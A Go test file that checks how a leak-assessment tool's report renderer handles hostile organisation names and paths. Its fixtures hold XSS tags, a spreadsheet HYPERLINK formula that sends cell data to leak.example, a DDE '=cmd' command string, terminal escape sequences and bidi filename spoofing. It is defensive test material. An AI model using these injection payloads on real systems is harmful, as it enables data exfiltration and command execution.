package report_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/leakwarden/leakwarden/internal/finding"
	"github.com/leakwarden/leakwarden/internal/mask"
	"github.com/leakwarden/leakwarden/internal/report"
)

var update = flag.Bool("update", false, "write the golden files anew")

// golden compares got with the file testdata/name.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v (run the test with -update)", err)
	}
	if !bytes.Equal(got, want) {
		g, w := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
		for i := range g {
			if i >= len(w) || g[i] != w[i] {
				t.Fatalf("%s differs at line %d:\ngot  %q", name, i+1, g[i])
			}
		}
		t.Fatalf("%s has more lines than were written", name)
	}
}

// render writes messages in a format.
func render(t *testing.T, format string, o report.Options, messages []finding.Message) []byte {
	t.Helper()
	var out bytes.Buffer
	h, err := report.New(format, &out, o)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range messages {
		if err := h.Handle(m); err != nil {
			t.Fatal(err)
		}
	}
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// masked returns s as the text of a stored stream.
func masked(s string) mask.Text {
	data, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	var t mask.Text
	if err := json.Unmarshal(data, &t); err != nil {
		panic(err)
	}
	return t
}

// Names that try to do harm: to a terminal, to a spreadsheet, to a page, to the
// eye. All are invented.
const (
	scriptName  = `<script>alert("x")</script> & 'Zn'</title>`
	formulaName = `=HYPERLINK("https://leak.example/?"&A1,"open")`
	cellName    = `Praktijk;=1+1`
	ansiName    = "Kliniek \x1b[2J\x1b]0;owned\x07 De Brug\r\nstrong 100%"
	bidiName    = "Praktijk \u202egpj.exe\u202c \u2066De Linde\u2069\u200b"
	lineName    = "Zorg\u2028cent\u2029rum\u0085 Zuid\x00\x7f"
	wideName    = "東京中央病院 (全角) 診療所 ＠外来"
	markName    = "Ke\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301rn \xff\xfe"
	longName    = "Stichting Samenwerkende Gezondheidscentra en Huisartsenposten van de Gemeenten Bovenveen, Middelveen en Onderveen in Liquidatie"
)

// hostile returns a whole stream in which every text is hostile.
func hostile() []finding.Message {
	messages := []finding.Message{{Config: &finding.Config{
		Version: 1, Tool: "leakwarden 0.0.0-test", Pack: "nl-health", PackVersion: "1", Policy: "policy-1",
		Suppliers: []string{"Laboratorium Noordvliet <b>B.V.</b>"},
		Register:  finding.Register{SHA256: strings.Repeat("ab", 32), Organisations: 5000},
		Listings: []finding.Listing{
			{
				Name: "tranche-1.txt.gz", SHA256: strings.Repeat("01", 32), Format: "find", Encoding: "utf-8", Bytes: 98_234_112, Lines: 812_345, Entries: 801_220,
				Skipped: []finding.Skipped{{Reason: "line longer than 64 KiB", Lines: 3, First: []int64{1881, 20442, 90127}}, {Reason: "no path in it", Lines: 11_122, First: []int64{12, 13}}},
			},
			{
				Name: "\x1b[31m<img src=x onerror=alert(1)>\u202etxt.csv", SHA256: strings.Repeat("23", 32), Format: "csv", Encoding: "windows-1252", Bytes: 999, Lines: 1, Entries: 1,
				Incomplete: "the compressed stream breaks off after byte 999",
			},
		},
	}}}
	for i, name := range []string{longName, scriptName, formulaName, cellName, ansiName, bidiName, lineName, wideName, markName} {
		messages = append(messages, finding.Message{Finding: hostileFinding(i, name)})
	}
	return append(messages,
		finding.Message{Nature: &finding.Nature{Nature: "cytology", Items: 120_000, Category: "health", Article: "GDPR 9"}},
		finding.Message{Nature: &finding.Nature{Nature: "hpv", Items: 30_000, Category: "health", Article: "GDPR 9"}},
		finding.Message{Nature: &finding.Nature{Nature: "detainee", Items: 2, Category: "<i>criminal</i>", Article: "GDPR 10"}},
		finding.Message{Unresolved: &finding.Unresolved{Text: masked("Aanvragers/Huisartsenpraktijk ▒L Zoetermeer\u2028<script>"), Items: 12, Why: "several: org-3 org-9"}},
		finding.Message{Unresolved: &finding.Unresolved{Text: masked(strings.Repeat("Aanvragers/", 20) + "▒▒▒ ‹n9›"), Items: 1, Why: "no organisation of that name"}},
		finding.Message{Explanation: &finding.Explanation{
			Organisation: finding.Organisation{ID: "org-3", Name: formulaName}, Confidence: 0.99, More: 2,
			Signs: []finding.Sign{{
				Line: 17, Text: masked("Aanvragers/<b>De Linde</b>/▒▒▒.pdf"), Class: "name", Items: 9, LogOdds: 4.475, Candidates: 1, Share: 1, Probability: 0.9887, P: 0.9887,
				Contributions: []finding.Contribution{{Feature: "bias", Value: 1, Weight: -2.5}, {Feature: "<rarity>\u202e", Value: 3.1, Weight: 2.25}},
			}},
		}},
		finding.Message{Explanation: &finding.Explanation{Organisation: finding.Organisation{ID: "org-4", Name: "None"}}},
		finding.Message{Summary: &finding.Summary{
			Items: 801_221, SupplierOwn: 560_000, Attributed: 201_221, Unattributed: 40_000, SkippedLines: 11_125, Duplicates: 7,
			Organisations: finding.Tiers{Strong: 3, Probable: 3, Possible: 3},
			Severity: finding.Severity{Low: 3.25, High: 5, Band: "high to very high", Assumptions: []string{
				"Upper end 5: the files hold what their names say at most.", "Lower end 3.25: they hold no more than they must.",
			}},
			Exposure: finding.Exposure{Held: 412_003}, Flags: []string{"special-category", "detainees"},
			Notes:  []string{"\x1b[1mNames\x1b[0m alone can miss <b>vulnerable groups</b>."},
			Unseen: &finding.Unseen{Organisations: 4, Low: 1, High: 17, Assumption: "This holds if the part is a random one."},
		}})
}

// hostileFinding returns finding number i of organisation name.
func hostileFinding(i int, name string) *finding.Finding {
	confidence := []float64{1, 0.995, 0.99, 0.97, 0.93, 0.9, 0.6, 0.4, 0.005}[i]
	f := &finding.Finding{
		Organisation: finding.Organisation{ID: "org-" + string(rune('1'+i)), Name: name, Type: "gp", City: "Zoetermeer", Participant: i%2 == 0, Umbrella: "LHV"},
		Status:       "indicated", Tier: []finding.Tier{finding.Strong, finding.Probable, finding.Possible}[i/3], Confidence: confidence,
		Reason: "“" + name + "” is written in full in the names of 4 folders.", Items: int64(1_234_567 >> (2 * i)), Inherited: int64(12 - i), Bytes: 4567 << i,
		Period:      &finding.Period{From: "2016-01", To: "2025-07"},
		Signals:     []finding.Signal{{Class: "name", Items: 123}, {Class: "code", Items: 4}},
		Natures:     []finding.Nature{{Nature: "cytology", Items: 40}, {Nature: "hpv", Items: 12}},
		Flags:       []string{"special-category", "bsn"},
		Identifiers: finding.Identifiers{NameItems: 80, BirthDateItems: 60, BSNItems: 3, Persons: 41},
		Bulk:        int64(i % 2),
		Evidence: []finding.Evidence{
			{Listing: 0, Line: 17, Text: masked("Aanvragers/" + name + "/uitslagen/▒L_‹date›_‹2024›.pdf"), Class: "name", Strength: 0.9},
			{Listing: 1, Line: 1, Text: masked("=cmd|' /C calc'!A0/▒▒▒ ‹n9›.pdf"), Class: "code", Strength: 0.3},
		},
	}
	if i == 8 {
		// The least that a finding can say.
		f.Period, f.Natures, f.Flags, f.Evidence, f.Identifiers, f.Bulk, f.Inherited = nil, nil, nil, nil, finding.Identifiers{}, 0, 0
		f.Organisation.Umbrella, f.Organisation.City, f.Organisation.Type = "", "", ""
	}
	return f
}
